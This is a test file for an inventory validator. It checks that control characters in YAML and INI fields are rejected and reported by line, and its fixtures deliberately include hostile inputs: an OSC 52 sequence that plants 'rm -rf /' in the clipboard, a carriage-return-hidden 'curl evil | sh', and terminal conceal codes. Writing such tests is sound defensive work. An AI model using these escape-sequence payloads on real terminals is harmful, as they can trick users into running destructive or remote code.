// Issue 11, item 7: inventory values are shown in confirmations, on screen and in exports; a
// control character in any of them (an OSC 52 that fills the clipboard, a CR or a conceal code
// that makes a confirmation show another command) is refused with its place, in each of the
// three formats.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tempHome, type TempHome } from './fixture.js';

let home: TempHome;
beforeAll(async () => {
  home = await tempHome();
  await home.write('id', 'not a real key\n');
});
afterAll(() => home.cleanup());

const ESC_Q = '\\e]52;c;cm0gLXJmIC8=\\a'; // as written inside a double-quoted YAML scalar
const FIELDS: [string, string][] = [
  ['name', `name: "cluster${ESC_Q}"`],
  ['node name', `nodes: [{ name: "m${ESC_Q}", address: 127.0.0.1, roles: [master] }]`],
  ['address', `nodes: [{ name: m1, address: "127.0.0.1${ESC_Q}", roles: [master] }]`],
  ['ip', `nodes: [{ name: m1, address: 127.0.0.1, ip: "10.0.0.1\\rx", roles: [master] }]`],
  ['user', `nodes: [{ name: m1, address: 127.0.0.1, user: "core\\e[8m", roles: [master] }]`],
  ['role', `nodes: [{ name: m1, address: 127.0.0.1, roles: ["master\\u202e"] }]`],
  ['jump', `nodes: [{ name: m1, address: 127.0.0.1, jump: "bastion\\x9b2J", roles: [master] }]`],
  ['a var value', `nodes: [{ name: m1, address: 127.0.0.1, roles: [master], vars: { patch_url: "http://ok/\\rcurl evil | sh" } }]`],
  ['a var name', `nodes: [{ name: m1, address: 127.0.0.1, roles: [master], vars: { "url\\e[8m": x } }]`],
  ['a default user', `defaults: { user: "core\\a" }\nnodes: [{ name: m1, address: 127.0.0.1, roles: [master] }]`],
];

describe('control characters in an inventory', () => {
  for (const [field, yaml] of FIELDS) {
    it(`are refused in ${field} of our YAML, with the line`, async () => {
      const text = yaml.startsWith('name:') ? `${yaml}\nnodes: [{ name: m1, address: 127.0.0.1, roles: [master] }]\n` : `${yaml}\n`;
      await home.write('inv.yaml', text);
      const { inventory, problems } = await home.inspect('inv.yaml');
      expect(inventory).toBeUndefined();
      const errors = problems.filter((p) => p.severity === 'error');
      expect(errors.length, home.show(problems).join('\n')).toBeGreaterThan(0);
      for (const e of errors) {
        expect(e.line).toBeGreaterThan(0);
        // Named, never sent to the terminal that prints the message.
        expect(e.message).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]/);
      }
    });
  }

  it('are refused in an Ansible YAML var and an Ansible INI var (a raw ESC byte in the file)', async () => {
    await home.write('ans.yaml', 'all:\n  children:\n    master:\n      hosts:\n        m1: { ansible_host: 127.0.0.1, motd: "a\\rb" }\n');
    let { problems } = await home.inspect('ans.yaml');
    expect(home.show(problems)).toEqual([
      expect.stringMatching(/^~\/ans\.yaml:5:\d+: error: the variable "motd" has the control character CR \(U\+000D\) in its value/),
    ]);
    await home.write('inv.ini', '[master]\nm1 ansible_host=127.0.0.1 motd=x\x1b]0;title\x07y\n');
    ({ problems } = await home.inspect('inv.ini'));
    expect(home.show(problems)).toEqual([
      expect.stringMatching(/^~\/inv\.ini:2:\d+: error: the variable "motd" has the control character ESC \(U\+001B\) in its value/),
    ]);
  });

  it('a tab in a var stays allowed', async () => {
    await home.write('tab.yaml', 'nodes: [{ name: m1, address: 127.0.0.1, roles: [master], vars: { motd: "a\\tb" } }]\n');
    const { inventory } = await home.inspect('tab.yaml');
    expect(inventory?.nodes[0]?.vars.motd).toBe('a\tb');
  });
});
